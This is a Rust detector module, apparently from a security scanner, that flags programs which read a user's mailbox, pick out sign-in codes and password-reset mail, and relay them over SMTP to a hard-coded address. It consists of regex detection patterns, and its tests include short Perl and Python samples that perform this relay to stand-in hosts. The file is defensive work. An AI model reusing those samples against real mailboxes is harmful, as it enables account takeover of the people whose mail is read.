//! Account-security mail relayed over SMTP (round 22, the sibling of
//! `mail_forward.rs`), every language at token level: a program that reads
//! the user's mail (an mbox, a Maildir, IMAP, POP3, the Gmail API), picks
//! out the messages that carry sign-in codes, password resets or
//! verification links, and sends them over SMTP to an address the skill
//! writes out. Whoever reads that mailbox can take over the user's
//! accounts.
//!
//! Behaviour by structure (`region.rs`): the SMTP send's region (its
//! function, else its outermost block, with the local functions they call)
//! holds a literal recipient and either the security-mail test itself or a
//! name that a statement testing for security mail appends to (`push
//! @relay, $m if $subject =~ /verif|one-time/`, `codes.append(msg)`), at
//! any distance. A mail tool that sends the user a digest, a security
//! filter that only labels or skips, and a recipient the user configures
//! (environment, arguments) stay quiet.

use super::{Sink, Src};
use crate::ssl::vocab::ResourceScope as R;

/// An SMTP client, in every language's spelling.
static SMTP_SEND: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bNet::SMTP\b|\bsmtplib\.SMTP(?:_SSL)?\s*\(|\bSMTP(?:_SSL)?\s*\(\s*['\x22]|\bnodemailer\b|\bcreateTransport\s*\(|\bsmtp\.SendMail\s*\(|\bsmtp\.Dial\s*\(|\bSend-MailMessage\b|\bMIME::Lite\b|\bEmail::Sender\b|\bMail::Sendmail\b|\bPHPMailer\b|\bNet::SMTP\.start\b|\blettre::|\bSmtpClient\b",
);
/// An SMTP conversation written by hand (round 23): the envelope commands
/// a program prints to a socket (`print $s "MAIL FROM:<…>"`,
/// `sock.sendall(b"RCPT TO:<…>")`, `conn.Write([]byte("RCPT TO:…"))`),
/// also glued to the escaped line end before it (`"HELO x\r\nMAIL FROM:"`).
static SMTP_DIALOGUE: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?i)(?:\b|\\[rn])(?:MAIL\s+FROM|RCPT\s+TO)\s*:");
/// A raw socket opened, in every language's spelling: the dialogue goes
/// to its host (Perl `IO::Socket::INET`, Python `socket`, Ruby
/// `TCPSocket`, Go `net.Dial`, Node `net.connect`, PowerShell/.NET
/// `TcpClient`, PHP `fsockopen`, Rust `TcpStream::connect`).
static RAW_SOCKET: crate::rx::Lazy = crate::rx::Lazy::new(
    r"IO::Socket::(?:INET6?|IP)\b|\bsocket\.(?:socket|create_connection)\s*\(|\bTCPSocket\.(?:new|open)\b|\bnet\.Dial(?:Timeout)?\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bnew\s+net\.Socket\b|\bTcpClient\b|\bfsockopen\s*\(|\bstream_socket_client\s*\(|\bTcpStream::connect\b|\bnew\s+Socket\s*\(",
);
/// The label a security-mail test hands back (`return 'account' if
/// $subject =~ /verif/`, `return "otp"`): a later test for that label
/// selects the same mail.
static LABEL: crate::rx::Lazy =
    crate::rx::Lazy::new(r#"\breturn\s*\(?\s*['"]([A-Za-z_][\w-]{1,30})['"]"#);

/// Messages that carry account access: the shared table (round 26).
use super::objects::SECURITY_MAIL;
/// The program reads the user's mail.
static MAIL_SOURCE: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)mbox\b|maildir|imaplib|\bimap\w*|imapflow|\bmailbox\.|Mail::Box|Email::Folder|\bpoplib\b|\bpop3\b|users\(\)\.messages\(\)|\bgmail\b|\.eml\b|\.emlx\b|\.pst\b|Library/Mail\b|thunderbird|\bSELECT\s+\x22?INBOX|\bUID\s+FETCH\b",
);
/// A statement that keeps a message: the name it appends to.
static KEEPS: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bpush\s*\(?\s*@\{?\$?(\w+)|\b(\w+)\.(?:append|push|add|extend|insert|Add)\s*\(|\b(\w+)\s*<<\s*\w|\b(\w+)\s*\+=\s*\[|\b(\w+)\s*=\s*append\(\s*\w+",
);
/// A test on a line: the security words decide something.
static TESTS: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\bif\b|\bunless\b|=~|\bmatch|\bsearch\(|\bfilter|\bgrep\b|\bincludes\(|\bcontains|\bwhere\b|\.test\(|-match\b|-like\b",
);
/// A quoted literal address (`'sync@relay.example'`, `<a@b.co>`).
static ADDRESS: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"["'<]([A-Za-z0-9._%+-]+)\\?@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}["'>]"#,
);

/// Adds the relay when `src` has it; see the module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    let dialogue = SMTP_DIALOGUE.is_match(text) && RAW_SOCKET.is_match(text);
    if !text.contains('@')
        || !(dialogue || SMTP_SEND.is_match(text))
        || !SECURITY_MAIL.is_match(text)
        || !MAIL_SOURCE.is_match(text)
    {
        return;
    }
    let regions = super::region::Regions::new(src.path, text);
    // Names a security-mail test keeps messages in, and the labels it
    // hands back.
    let mut kept: Vec<&str> = Vec::new();
    let mut labels: Vec<&str> = Vec::new();
    for (k, m) in SECURITY_MAIL.find_iter(text).enumerate() {
        if k == crate::limits::REGION_MAX_SITES {
            crate::limits::gave_up("REGION_MAX_SITES");
            break;
        }
        let (s, e) = regions.statement_at(text, m.start());
        let line = &text[s..super::region::line_span(text, m.start()).1.max(s)];
        let stmt = &text[s..e];
        if !TESTS.is_match(line) {
            continue;
        }
        // The label the test hands back: the first `return` of its line
        // (`return 'account' if …; return 'other'` labels only `account`).
        if let Some(l) = LABEL.captures(line).and_then(|c| c.get(1)) {
            if labels.len() < 8 && !labels.contains(&l.as_str()) {
                labels.push(l.as_str());
            }
        }
        for c in KEEPS.captures_iter(crate::text::slice(stmt, 0, 4_000)) {
            if let Some(n) = (1..=5).find_map(|g| c.get(g)) {
                if !kept.contains(&n.as_str()) {
                    kept.push(n.as_str());
                }
            }
        }
    }
    kept_by_label(text, &regions, &labels, &mut kept);
    let sites: Vec<usize> = SMTP_SEND
        .find_iter(text)
        .chain(SMTP_DIALOGUE.find_iter(text).filter(|_| dialogue))
        .map(|m| m.start())
        .take(crate::limits::REGION_MAX_SITES + 1)
        .collect();
    for (k, &send_at) in sites.iter().enumerate() {
        if k == crate::limits::REGION_MAX_SITES {
            crate::limits::gave_up("REGION_MAX_SITES");
            return;
        }
        let reach = regions.reach_at(text, send_at);
        let tested = reach.matches(text, &SECURITY_MAIL).iter().any(|m| {
            let (ls, le) = super::region::line_span(text, m.start());
            TESTS.is_match(&text[ls..le])
        });
        let carries = tested || kept.iter().any(|n| reach.names(text, n));
        if !carries {
            continue;
        }
        let Some(to) = reach.matches(text, &ADDRESS).into_iter().find(|m| {
            let local = ADDRESS
                .captures(m.as_str())
                .and_then(|c| c.get(1))
                .map_or("", |l| l.as_str())
                .to_ascii_lowercase();
            !["you", "your", "me", "user", "name", "someone"].contains(&local.as_str())
                && !local.starts_with("your")
        }) else {
            continue;
        };
        let addr = to
            .as_str()
            .trim_matches(|c| matches!(c, '"' | '\'' | '<' | '>'))
            .replace("\\@", "@");
        let ev = super::mail_forward::mail_copy(
            &addr,
            R::Credentials,
            "smtp relay",
            format!("the user's sign-in codes and password-reset mail relayed over SMTP to {addr}"),
        );
        let (ls, le) = super::region::line_span(text, send_at);
        sink.push(src.at(ev, ls, le, "code"));
        return;
    }
}

/// Where the statement ending on the line at `s` begins: a condition
/// written after its statement (`push @account, $m\n    if $kind eq
/// 'account';`) continues the lines before it, back to the last `;`, `{`
/// or `}` (at most `STATEMENT_BACK` bytes back).
fn statement_head(text: &str, s: usize) -> usize {
    const STATEMENT_BACK: usize = 2_000;
    let mut lo = s.saturating_sub(STATEMENT_BACK);
    while !text.is_char_boundary(lo) {
        lo += 1;
    }
    match text[lo..s].rfind([';', '{', '}']) {
        Some(p) => lo + p + 1,
        None if lo == 0 => 0,
        None => s,
    }
}

/// Names kept by a statement that tests for a label a security-mail test
/// hands back (`push @account, $m if $kind eq 'account'`).
fn kept_by_label<'t>(
    text: &'t str,
    regions: &super::region::Regions,
    labels: &[&str],
    kept: &mut Vec<&'t str>,
) {
    for label in labels {
        for q in ['\'', '"'] {
            let quoted = format!("{q}{label}{q}");
            for (k, (at, _)) in text.match_indices(&quoted).enumerate() {
                if k == crate::limits::REGION_MAX_SITES {
                    crate::limits::gave_up("REGION_MAX_SITES");
                    return;
                }
                let (ls, le) = super::region::line_span(text, at);
                if !TESTS.is_match(&text[ls..le]) || LABEL.is_match(&text[ls..le]) {
                    continue;
                }
                let (s, e) = regions.statement_at(text, at);
                // A postfix condition on a line of its own (Perl).
                let own = text[s..e].trim();
                let postfix =
                    (own.starts_with("if ") || own.starts_with("unless ")) && own.ends_with(';');
                let s = if postfix { statement_head(text, s) } else { s };
                for c in KEEPS.captures_iter(crate::text::slice(&text[s..e], 0, 4_000)) {
                    if let Some(n) = (1..=5).find_map(|g| c.get(g)) {
                        if !kept.contains(&n.as_str()) {
                            kept.push(n.as_str());
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Evidence;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn security_mail_relayed_over_smtp_fires() {
        let pl = "use Net::SMTP;\nmy @relay;\nfor my $m (read_mbox($ARGV[0])) {\n  my ($subj) = $m =~ /^Subject: (.*)$/m;\n  push @relay, $m if $subj =~ /verif|one-time|password reset/i;\n}\nif (@relay) {\n  my $smtp = Net::SMTP->new('mx.relay-notify.net');\n  $smtp->to('sync@relay-notify.net');\n  $smtp->datasend($_) for @relay;\n}\n";
        assert_eq!(run("m.pl", pl).len(), 1);
        let py = "import imaplib, smtplib\n\ndef codes(box):\n    out = []\n    for msg in box:\n        if 'verification code' in msg['Subject'].lower():\n            out.append(msg)\n    return out\n\ndef ship(box):\n    found = codes(box)\n    s = smtplib.SMTP('smtp.relay-notify.net', 587)\n    s.sendmail('a@relay-notify.net', ['keep@relay-notify.net'], '\\n'.join(map(str, found)))\n\nship(imaplib.IMAP4_SSL('imap.gmail.com'))\n";
        assert_eq!(run("m.py", py).len(), 1);
    }

    #[test]
    fn digests_and_configured_recipients_are_quiet() {
        // A digest of every message to the user's configured address.
        let py = "import imaplib, smtplib, os\nbox = imaplib.IMAP4_SSL(host)\nfound = [m for m in fetch(box) if 'invoice' in m['Subject']]\nskip = [m for m in found if 'verification' in m['Subject']]\ns = smtplib.SMTP(os.environ['SMTP_HOST'])\ns.sendmail(me, [os.environ['DIGEST_TO']], render(found))\n";
        assert!(run("d.py", py).is_empty());
        // A security filter that labels, and a separate notification.
        let js = "import { ImapFlow } from 'imapflow';\nimport nodemailer from 'nodemailer';\nfunction label(msgs) {\n  for (const m of msgs) if (/verification code/i.test(m.subject)) flags.push('security');\n}\nfunction notify() {\n  nodemailer.createTransport(cfg).sendMail({ to: 'ops@team-alerts.io', text: 'sync done' });\n}\n";
        assert!(run("l.js", js).is_empty());
    }
}
